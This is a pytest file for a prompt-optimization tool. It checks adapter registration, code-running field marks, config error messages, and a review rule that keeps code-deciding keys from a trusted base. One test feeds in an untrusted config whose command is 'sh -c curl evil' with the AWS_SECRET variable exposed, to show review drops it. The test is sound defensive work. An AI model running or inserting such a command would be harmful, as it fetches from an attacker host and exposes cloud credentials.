"""One road (issue 29): every trial, the bundled agents' included, goes through one registered
adapter kind and one function (`run/trial.attempt`) that times, grades and classifies it; the
adapter settings are one discriminated union whose every field says whether it decides what
code runs, and review's trust rule is derived from those marks."""

from __future__ import annotations

import asyncio
import sys
from pathlib import Path
from typing import Any

import pytest
from pydantic import BaseModel

from promptloop.agents.adapters import card_agent
from promptloop.agents.base import AgentInput, OutcomeSession, session_factory
from promptloop.agents.registry import AgentOptions
from promptloop.agents.workspace import Workspace
from promptloop.optimizer.adapters.registry import registered
from promptloop.optimizer.core.adapter_settings import MEMBERS, RUNS_CODE, kinds, marked, plain
from promptloop.optimizer.core.config import ConfigError
from promptloop.optimizer.core.project import (
    AgentConfig,
    CommandGrader,
    parse_project,
    project_scope,
)
from promptloop.optimizer.core.prompt_target import open_target
from promptloop.optimizer.core.results import RunResult
from promptloop.optimizer.core.suites import load_suite
from promptloop.optimizer.run import trial as trial_module
from promptloop.optimizer.run.runner import RunOptions, run_suite
from promptloop.optimizer.workflows.review_trust import trusted_keys
from tests import policies
from tests.optimizer import suite_builder as sb

SEEN_PROMPTS: list[str] = []


@session_factory
def recording_card(workspace: Workspace, agent_input: AgentInput, system_prompt: str,
                   options: AgentOptions | None = None) -> OutcomeSession:
    """The Card Agent, noting the system prompt it was built with."""
    SEEN_PROMPTS.append(system_prompt)
    return card_agent(workspace, agent_input, system_prompt, options)


def unmarked(models: tuple[type[BaseModel], ...]) -> list[str]:
    """`Model.field` for every field without an explicit boolean `runs_code` mark."""
    return [f"{m.__name__}.{k}" for m in models for k, f in m.model_fields.items()
            if marked(f) is None]


def marked_true(models: tuple[type[BaseModel], ...]) -> set[str]:
    return {k for m in models for k, f in m.model_fields.items() if marked(f) and k != "spec"}


# --- the registry and the union ---------------------------------------------------------------


def test_every_kind_of_the_union_is_registered() -> None:
    assert set(kinds()) == {"command", "worker", "http", "python", "session"}
    assert set(kinds()) <= set(registered())


def test_every_adapter_setting_carries_an_explicit_mark() -> None:
    assert unmarked((*MEMBERS, AgentConfig, CommandGrader)) == []

    class Sloppy(MEMBERS[0]):  # type: ignore[misc,valid-type]
        sandbox_command: str = "bwrap"  # a new field that names a program, left unmarked

    class Careful(BaseModel):
        level: int = plain(1)

    assert unmarked((Sloppy,)) == ["Sloppy.sandbox_command"]  # the check above can fail
    assert unmarked((Careful,)) == []


def test_review_keeps_exactly_the_marked_fields_from_the_base() -> None:
    assert set(trusted_keys()) == marked_true((*MEMBERS, AgentConfig))
    # the keys that name a program, a URL, a module or what the process is handed
    assert set(trusted_keys()) >= {"adapter", "command", "entry", "url", "env", "request",
                                    "result", "graders"}
    assert not {"timeout", "max_output_bytes", "prompt", "suites", "model"} & set(trusted_keys())
    assert all(f.json_schema_extra == {RUNS_CODE: True}
               for f in CommandGrader.model_fields.values())


def test_a_string_where_a_number_belongs_is_a_load_error_naming_file_table_and_key() -> None:
    text = ('[agents.triage]\nprompt = "p.md"\nsuites = ["evals"]\nadapter = "command"\n'
            'command = ["python3", "agent.py"]\ntimeout = "300"\n')
    with pytest.raises(ConfigError) as err:
        parse_project(text, Path("/repo/promptloop.toml"))
    said = str(err.value)
    assert "/repo/promptloop.toml" in said and "[agents.triage]" in said
    assert "key 'timeout'" in said and "'300'" in said
    concurrency = text.replace('timeout = "300"', 'concurrency = "2"')
    with pytest.raises(ConfigError, match=r"\[agents.triage\] key 'concurrency'"):
        parse_project(concurrency, Path("/repo/promptloop.toml"))


def test_a_key_of_another_adapter_kind_is_named() -> None:
    text = ('[agents.triage]\nprompt = "p.md"\nsuites = ["evals"]\nadapter = "worker"\n'
            'command = ["node", "a.js"]\nurl = "http://127.0.0.1:9/x"\n')
    with pytest.raises(ConfigError, match="key 'url': not a key of adapter = 'worker'"):
        parse_project(text, Path("promptloop.toml"))


# --- one function for every kind --------------------------------------------------------------

AGENT_PY = """import json, sys
request = json.load(sys.stdin)
print(json.dumps({"outcome": {"prompt": request["prompt"]["text"]}}))
"""


def _project(root: Path, agents: str) -> Any:
    return parse_project(agents, root / "promptloop.toml")


def _spy(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    kinds_seen: list[str] = []
    real = trial_module.attempt

    async def spy(link: Any, *args: Any, **kwargs: Any) -> Any:
        kinds_seen.append(link.spec.adapter)
        return await real(link, *args, **kwargs)

    monkeypatch.setattr(trial_module, "attempt", spy)
    return kinds_seen


def _run(suite_root: Path, state: Path, options: dict[str, Any] | None = None) -> RunResult:
    suite = load_suite(suite_root)
    opts = RunOptions(agent_model="scripted:card", state_dir=state, reuse=False,
                      **({"prompt_text": "prompt"} | (options or {})))
    return asyncio.run(run_suite(suite, opts, policies.card_model()))


def test_a_bundled_trial_and_a_command_trial_take_the_same_function(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    seen = _spy(monkeypatch)
    (tmp_path / "agent.py").write_text(AGENT_PY)
    project = _project(tmp_path, f"""
[agents.card_agent]
prompt = "prompts/card_agent.md"
suites = ["tasks/card_agent"]
adapter = "session"
entry = "promptloop.agents.adapters:card_agent"

[agents.echo]
prompt = "p.md"
suites = ["evals"]
adapter = "command"
command = ["{sys.executable}", "agent.py"]
""")
    card = sb.suite(tmp_path / "card", [sb.task("coffee", "Coffee at Bean Bar $4.20", 1,
                                                trials=1)])
    echo = sb.suite(tmp_path / "echo", [sb.task("echo", "anything", 2, trials=1, graders=[
        {"name": "json_path", "config": {"path": "$.prompt", "equals": "prompt"}}])],
        agent="echo")
    with project_scope(project):
        bundled = _run(card, tmp_path / "state")
        command = _run(echo, tmp_path / "state")
    assert seen == ["session", "command"]
    assert [t.status for t in bundled.trials] == ["passed"], bundled.trials[0].failure_reason
    assert [t.status for t in command.trials] == ["passed"], command.trials[0].failure_reason


def test_an_in_process_agent_gets_a_literal_region_decoded(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The prompt of a session agent held in a string literal reaches it with its escapes
    decoded, as an adapter agent's does (the request's prompt.text)."""
    source_file = 'SYSTEM = "Say \\"hi\\".\\nThen stop."\n'
    (tmp_path / "prompts.py").write_text(source_file)
    project = _project(tmp_path, """
[agents.card_agent]
prompts = [{name = "system", path = "prompts.py", variable = "SYSTEM"}]
suites = ["tasks"]
adapter = "session"
entry = "tests.optimizer.run.test_one_road:recording_card"
""")
    agent = project.agent("card_agent")
    source = open_target(agent, agent.target(), source_file)
    raw = source.text
    assert raw == 'Say \\"hi\\".\\nThen stop.'  # the literal as the file writes it
    card = sb.suite(tmp_path / "card", [sb.task("coffee", "Coffee at Bean Bar $4.20", 1,
                                                trials=1)])
    SEEN_PROMPTS.clear()
    with project_scope(project):
        result = _run(card, tmp_path / "state",
                      {"prompt_text": raw, "prompt_source": source})
    assert result.trials[0].status != "errored", result.trials[0].failure_reason
    assert SEEN_PROMPTS == ['Say "hi".\nThen stop.']


def test_a_python_entry_that_is_a_session_factory_is_told_to_say_session(
    tmp_path: Path,
) -> None:
    """The road is the table's choice: a session factory declared as `python` is not quietly
    run in the agent loop; the trial is errored with what to write instead."""
    project = _project(tmp_path, """
[agents.card_agent]
prompt = "prompts/card_agent.md"
suites = ["tasks"]
adapter = "python"
entry = "promptloop.agents.adapters:card_agent"
""")
    card = sb.suite(tmp_path / "card", [sb.task("coffee", "Coffee $4", 1, trials=1)])
    with project_scope(project):
        result = _run(card, tmp_path / "state")
    [t] = result.trials
    assert t.status == "errored"
    assert t.infra_error is not None and 'adapter = "session"' in t.infra_error


def test_review_takes_the_marked_keys_from_the_base_and_the_rest_from_the_head() -> None:
    from promptloop.optimizer.workflows.review_trust import _with_base_code

    table = '[agents.a]\nprompt = "p.md"\nsuites = ["s"]\n'
    base = parse_project(table + 'adapter = "command"\ncommand = ["python3", "a.py"]\n'
                         'env = ["HOME"]\ntimeout = 10\n', None).agents["a"]
    head = parse_project(table + 'adapter = "command"\ncommand = ["sh", "-c", "curl evil"]\n'
                         'env = ["AWS_SECRET"]\ntimeout = 99\n', None).agents["a"]
    kept = _with_base_code(head, base)
    assert kept.flat()["command"] == ["python3", "a.py"] and kept.flat()["env"] == ["HOME"]
    assert kept.flat()["timeout"] == 99  # not code: the head's
    other = parse_project(table + 'adapter = "http"\nurl = "http://127.0.0.1:1/x"\n',
                          None).agents["a"]
    assert _with_base_code(other, base).spec == base.spec  # another kind: the base's adapter


def test_a_whole_file_prompt_has_no_region_in_the_request(tmp_path: Path) -> None:
    """docs/agents.md: `prompt.region` is null for a whole file (it read the file's path)."""
    (tmp_path / "agent.py").write_text(
        "import json, sys\nrequest = json.load(sys.stdin)\n"
        'print(json.dumps({"outcome": {"region": request["prompt"]["region"]}}))\n')
    (tmp_path / "p.md").write_text("prompt\n")
    (tmp_path / "lit.py").write_text('SYSTEM = "prompt"\n')
    project = _project(tmp_path, f"""
[agents.echo]
prompts = [{{name = "system", path = "p.md"}},
           {{name = "lit", path = "lit.py", variable = "SYSTEM"}}]
suites = ["evals"]
adapter = "command"
command = ["{sys.executable}", "agent.py"]
""")
    echo = sb.suite(tmp_path / "echo", [sb.task("echo", "anything", 2, trials=1)], agent="echo")
    agent = project.agent("echo")
    whole = open_target(agent, agent.target("system"), "prompt\n")
    literal = open_target(agent, agent.target("lit"), 'SYSTEM = "prompt"\n')
    with project_scope(project):
        got = _run(echo, tmp_path / "state", {"prompt_source": whole, "prompt_text": "prompt\n"})
        lit = _run(echo, tmp_path / "state2", {"prompt_source": literal, "prompt_text": "prompt"})
    assert got.trials[0].outcome == {"region": None}, got.trials[0].failure_reason
    assert "SYSTEM" in (lit.trials[0].outcome or {}).get("region", ""), lit.trials[0].outcome
